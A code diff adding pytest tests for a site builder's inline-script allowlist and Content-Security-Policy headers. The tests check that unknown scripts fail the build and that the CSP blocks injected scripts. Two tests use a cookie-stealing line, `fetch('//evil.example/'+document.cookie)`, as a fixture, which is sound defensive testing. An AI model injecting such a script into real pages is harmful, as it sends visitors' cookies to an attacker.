@@ -76,10 +76,65 @@ def test_embed_pages_may_be_framed_elsewhere(tmp_path):
     (tmp_path / "embed" / "figure").mkdir(parents=True)
     (tmp_path / "embed" / "figure" / "index.html").write_text("<p>x</p>")
     (tmp_path / "index.html").write_text("<script>go()</script>")
-    text = headers_file(tmp_path, "https://tile.example.org/{z}/{x}/{y}.png")
+    text = headers_file(tmp_path, "https://tile.example.org/{z}/{x}/{y}.png", ["'sha256-abc='"])
     assert "frame-ancestors *" in rule_for(text, "/embed/figure/")["Content-Security-Policy"]
     assert "frame-ancestors 'self'" in rule_for(text, "/")["Content-Security-Policy"]
     assert "img-src 'self' data: https://tile.example.org;" in rule_for(text, "/")["Content-Security-Policy"]
+
+
+def test_every_script_a_browser_would_run_is_found_whatever_its_spelling():
+    from macros.headers import inline_scripts
+
+    html = (
+        "<script>a()</script><SCRIPT type=' Text/JavaScript '>b()</SCRIPT><script type=module>c()</script>"
+        '<script src="x.js"></script><script type="application/ld+json">{"d": 1}</script><script type="text/plain">e()</script>'
+    )
+    assert inline_scripts(html) == ["a()", "b()", "c()", "e()"]  # an unknown type counts as a script: the allowlist decides
+
+
+def test_the_allowlist_refuses_a_script_no_template_writes_and_counts_the_ones_it_does():
+    from macros.headers import ScriptAllowlist, UnknownScript, script_hash
+
+    allowlist = ScriptAllowlist(lambda name, base_url: f"<script>theme({base_url!r})</script>" if name.endswith("base.html") else "")
+    allowlist.check("<p>x</p><script>theme('../')</script>", "docs/a.md", "../")
+    assert allowlist.hashes() == [script_hash("theme('../')")]
+    with pytest.raises(UnknownScript, match=r"docs/b.md: an inline script that no template of the site writes: \"fetch\('//evil.example/'\+document.cookie\)\""):
+        allowlist.check("<script>theme('.')</script><script>\nfetch('//evil.example/'+document.cookie)</script>", "docs/b.md", ".")
+    with pytest.raises(UnknownScript):
+        allowlist.check("<script>theme('../')</script>", "docs/c.md", ".")  # the theme's script for another depth
+
+
+@pytest.mark.slow
+def test_a_pasted_inline_script_fails_the_build_naming_the_page(tiny, tmp_path):
+    from conftest import build
+
+    (tiny / "docs" / "notes.md").write_text("# Notes\n\n<script>fetch('//evil.example/'+document.cookie)</script>\n")
+    result = build(tiny, tmp_path / "out")
+    assert result.returncode == 1
+    assert "docs/notes.md: an inline script that no template of the site writes: \"fetch('//evil.example/'+document.cookie)\"" in result.stdout + result.stderr
+    assert "Traceback" not in result.stdout + result.stderr
+
+
+@pytest.mark.browser
+def test_an_injected_inline_script_is_blocked_by_the_csp(example_site, browser, tmp_path):
+    site = tmp_path / "site"
+    shutil.copytree(example_site, site)
+    page_file = site / "about" / "index.html"
+    page_file.write_text(page_file.read_text(encoding="utf-8").replace("</body>", "<script>window.__injected = true</script></body>"), encoding="utf-8")
+    headers = (site / "_headers").read_text()
+    url, server = serve(site, lambda path: rule_for(headers, path))
+    context = browser.new_context()
+    context.add_init_script("window.__violations = []; document.addEventListener('securitypolicyviolation', e => window.__violations.push(e.violatedDirective));")
+    page = context.new_page()
+    try:
+        page.goto(url + "about/")
+        page.wait_for_load_state("networkidle")
+        assert page.evaluate("window.__injected === true") is False
+        assert "script-src-elem" in page.evaluate("window.__violations") or "script-src" in page.evaluate("window.__violations")
+        assert page.evaluate("typeof __md_scope") == "object"  # the theme's own inline script ran
+    finally:
+        context.close()
+        server.shutdown()
 
 
 @pytest.mark.browser
